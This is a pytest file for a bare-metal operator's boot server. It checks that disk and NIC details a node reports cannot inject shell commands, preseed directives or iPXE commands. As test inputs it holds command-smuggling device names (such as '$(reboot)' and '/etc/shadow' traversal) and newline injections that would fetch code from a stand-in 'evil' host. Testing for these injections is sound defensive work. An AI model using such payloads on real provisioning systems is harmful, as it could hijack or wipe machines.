"""Issue 16 #3: what a node reports is untrusted; nothing it says can add preseed lines or shell code."""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from oci_operator.api.v1alpha1 import BareMetalHost
from oci_operator.api.v1alpha1.hardware import Disk, HardwareDetails
from oci_operator.bootserver import scripts
from oci_operator.bootserver.config import BootServerConfig
from oci_operator.bootserver.directory import Token
from oci_operator.render import RenderError

CONFIG = BootServerConfig(advertise="10.0.0.1:8088")
TOKEN = Token("s3cret-token", "job1")


@pytest.mark.parametrize(
    "name",
    [
        "/dev/sda; reboot",
        "/dev/sda$(reboot)",
        "/dev/sda`id`",
        "/dev/sda\nd-i preseed/late_command string wget evil",
        "/dev/../etc/shadow",
        "/dev/sda b",
        "sda",
        "/dev/sda'",
    ],
)
def test_a_disk_name_that_is_not_a_device_path_is_refused(name: str) -> None:
    with pytest.raises(ValidationError):
        HardwareDetails.model_validate({"disks": [{"name": name}]})


@pytest.mark.parametrize("field", ["model", "vendor", "serialNumber", "wwn"])
def test_reported_text_holds_no_line_break(field: str) -> None:
    with pytest.raises(ValidationError):
        HardwareDetails.model_validate({"disks": [{"name": "/dev/sda", field: "x\nd-i preseed/late_command string y"}]})
    with pytest.raises(ValidationError):
        HardwareDetails.model_validate({"nics": [{"name": "eth0\nx", "mac": "52:54:00:00:00:01"}]})


def test_real_device_paths_are_accepted() -> None:
    names = ["/dev/sda", "/dev/nvme0n1", "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4", "/dev/mapper/vg0-root", "/dev/md127"]
    hardware = HardwareDetails.model_validate({"disks": [{"name": n} for n in names]})
    assert [d.name for d in hardware.disks] == names


def host(disks: list[str], root: list[str]) -> BareMetalHost:
    """A host whose status holds names as if written before validation existed (model_construct skips it)."""
    status: dict[str, Any] = {"provisioning": {"state": "provisioning", "bootId": "job1", "rootDevice": root}}
    built = BareMetalHost.model_validate(
        {
            "metadata": {"name": "node-7", "namespace": "n"},
            "spec": {
                "bmc": {"address": "ipmi://10.0.0.9", "credentialsName": "c"},
                "bootMACAddress": "52:54:00:00:00:07",
            },
            "status": status,
        }
    )
    built.status.hardware = HardwareDetails.model_construct(disks=[Disk.model_construct(name=d) for d in disks])
    return built


def test_every_device_in_the_wipe_is_one_quoted_shell_word() -> None:
    text = scripts.preseed(CONFIG, host(["/dev/sda", "/dev/sdb$(reboot)"], ["/dev/sda"]), TOKEN, "wipe")
    early = next(line for line in text.splitlines() if line.startswith("d-i preseed/early_command"))
    assert "for d in /dev/sda '/dev/sdb$(reboot)'; do" in early
    assert 'dd if=/dev/zero of="$d"' in early


def test_a_line_break_in_a_root_device_fails_the_render_instead_of_adding_a_directive() -> None:
    bad = host(["/dev/sda"], ["/dev/sda\nd-i preseed/late_command string evil"])
    with pytest.raises(RenderError):
        scripts.preseed(CONFIG, bad, TOKEN, "install")


def test_a_line_break_never_reaches_the_kernel_command_line() -> None:
    """A value meant for the iPXE kernel line that holds a line break would add iPXE commands."""
    config = BootServerConfig(advertise="10.0.0.1:8088", kernel_args="console=ttyS0\nchain http://evil/x.ipxe")
    booting = host(["/dev/sda"], ["/dev/sda"])
    with pytest.raises(RenderError):
        scripts.host_script(config, "52:54:00:00:00:07", booting, TOKEN)
    assert "kernel http://" in scripts.host_script(CONFIG, "52:54:00:00:00:07", booting, TOKEN)
